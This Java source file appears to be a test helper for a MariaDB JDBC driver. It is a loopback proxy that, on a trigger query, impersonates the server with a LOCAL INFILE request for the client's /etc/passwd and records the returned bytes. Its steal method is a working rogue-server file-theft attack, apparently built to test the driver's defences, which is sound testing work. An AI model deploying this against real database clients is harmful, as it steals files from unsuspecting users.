package dev.turnstone.jdbc.mariadb;

import java.io.ByteArrayOutputStream;
import java.io.IOException;
import java.io.InputStream;
import java.io.OutputStream;
import java.io.UncheckedIOException;
import java.net.InetAddress;
import java.net.ServerSocket;
import java.net.Socket;
import java.nio.charset.StandardCharsets;

/**
 * Stands between a client and a real server and turns against the client: a query that holds the
 * trigger is answered by asking for a file of the client's.
 */
final class RogueProxy implements AutoCloseable {
  private static final int QUERY = 3;
  private final ServerSocket entrance;
  private final int serverPort;
  private final String trigger;
  private final ByteArrayOutputStream taken = new ByteArrayOutputStream();
  private volatile int asked;

  RogueProxy(int serverPort, String trigger) throws IOException {
    this.serverPort = serverPort;
    this.trigger = trigger;
    this.entrance = new ServerSocket(0, 50, InetAddress.getLoopbackAddress());
    start(this::accept);
  }

  int port() {
    return entrance.getLocalPort();
  }

  /** How often the client was asked for its file. */
  int asked() {
    return asked;
  }

  /** Everything the client sent when it was asked. */
  synchronized String taken() {
    return taken.toString(StandardCharsets.UTF_8);
  }

  @Override
  public void close() throws IOException {
    entrance.close();
  }

  private void accept() throws IOException {
    while (true) {
      Socket client = entrance.accept();
      Socket server = new Socket(InetAddress.getLoopbackAddress(), serverPort);
      start(() -> server.getInputStream().transferTo(client.getOutputStream()));
      start(() -> serve(client, server));
    }
  }

  private void serve(Socket client, Socket server) throws IOException {
    try (client;
        server) {
      InputStream from = client.getInputStream();
      OutputStream on = server.getOutputStream();
      while (true) {
        byte[] head = from.readNBytes(4);
        if (head.length < 4) return;
        byte[] body = from.readNBytes(length(head));
        boolean query = head[3] == 0 && body.length > 0 && body[0] == QUERY;
        if (query && new String(body, StandardCharsets.UTF_8).contains(trigger)) {
          steal(from, client.getOutputStream());
        } else {
          on.write(head);
          on.write(body);
          on.flush();
        }
      }
    }
  }

  private synchronized void steal(InputStream from, OutputStream to) throws IOException {
    asked++;
    byte[] request = "\u00fb/etc/passwd".getBytes(StandardCharsets.ISO_8859_1);
    packet(to, 1, request);
    byte[] head = from.readNBytes(4);
    while (length(head) > 0) {
      taken.writeBytes(from.readNBytes(length(head)));
      head = from.readNBytes(4);
    }
    packet(to, head[3] + 1, new byte[] {0, 0, 0, 2, 0, 0, 0});
  }

  private static void packet(OutputStream to, int sequence, byte[] body) throws IOException {
    to.write(new byte[] {(byte) body.length, 0, 0, (byte) sequence});
    to.write(body);
    to.flush();
  }

  private static int length(byte[] head) {
    return (head[0] & 255) | (head[1] & 255) << 8 | (head[2] & 255) << 16;
  }

  private interface Work {
    void run() throws IOException;
  }

  private static void start(Work work) {
    Thread thread =
        new Thread(
            () -> {
              try {
                work.run();
              } catch (IOException e) {
                // a side hung up
              } catch (UncheckedIOException e) {
                // a side hung up
              }
            });
    thread.setDaemon(true);
    thread.start();
  }
}
